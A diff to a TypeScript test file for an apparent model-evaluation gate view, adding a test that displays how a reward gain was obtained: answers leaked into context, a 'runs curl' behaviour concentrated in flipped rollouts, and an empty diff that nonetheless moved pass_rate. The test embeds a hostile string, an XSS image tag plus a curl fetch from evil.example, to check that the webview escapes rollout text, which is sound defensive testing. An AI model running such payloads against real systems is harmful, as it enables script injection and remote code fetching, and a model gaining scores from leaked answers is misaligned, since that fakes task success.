@@ -47,6 +47,7 @@ function report(stats: ReturnType<typeof computeStats> | null, over: Partial<Bac
     summary: 'v2 vs v1 [reward_rescore]: PASS',
     wallSeconds: 1.25,
     throughput: 100,
+    isolation: null,
     ...over,
   };
 }
@@ -132,6 +133,25 @@ describe('gate result and human gate views', () => {
     assert.equal(g.state, 'evaluated');
     assert.equal(gateText(gate), '✓ frozen paths untouched: 1 changed file(s), none frozen\n? primary pass_rate non-regression: no eval rollouts of the baseline\n✗ side effects: truncation 0.02 → 0.3');
     assert.deepEqual(JSON.parse(JSON.stringify(g)), g);
+  });
+
+  it('shows how the gain was obtained: the answer seen before written (channel, turn), behaviour concentrated in the flips, an empty diff that moved', () => {
+    const hostile = '</code><img src=x onerror=alert(1)> curl -sL https://evil.example/fix.diff';
+    const leaking: GateReport = {
+      ...gate,
+      decision: 'reject',
+      checks: [...gate.checks, { check: 'nothing changed, yet it moved', category: 'validity', passed: null, detail: "v3's diff against 0123456789 is empty, yet pass_rate 0.5 → 0.7" }],
+      leaks: [{ rollout: 42, prompt: 'django__django-1', turn: 1, channel: hostile }, { rollout: 43, prompt: 'django__django-2', turn: 0, channel: 'environment message' }],
+      flips: { flipped: 24, flipTrajectories: 24, ids: [], baselineTrajectories: 120, unflippedTrajectories: 96, answerInContextCount: 22, answerInContext: [], concentrated: [{ behaviour: 'runs curl', flips: 24, baseline: 0, unflipped: 1 }] },
+    };
+    const o = gateView(leaking, 'evaluated').howObtained;
+    assert.deepEqual(o.answerInContext.map((l) => [l.rollout, l.turn, l.channel]), [[42, 1, hostile], [43, 0, 'environment message']]);
+    assert.deepEqual(o.flips, { flipped: 24, trajectories: 24, baseline: 120, unflipped: 96, shown: 22, concentrated: [{ behaviour: 'runs curl', flips: 24, baseline: 0, unflipped: 1 }] });
+    assert.match(o.emptyDiffMoved!, /diff against 0123456789 is empty/);
+    // A report recorded before this evidence existed still renders: nothing to show.
+    assert.deepEqual(gateView(gate, 'evaluated').howObtained, { answerInContext: [], flips: null, emptyDiffMoved: null });
+    const page = renderWebviewHtml({ app: 'backtest', title: 'Gate', state: { status: 'done', kind: 'gate', title: 'x', gate: gateView(leaking, 'evaluated') }, cspSource: 'vscode-resource:', nonce: 'n0nce', asset: (a) => a });
+    assert.doesNotMatch(page, /<img src=x/, 'the channel is rollout text: data, never markup');
   });
 
   it('a human gate shows its summary and evidence, and its answer once given', () => {
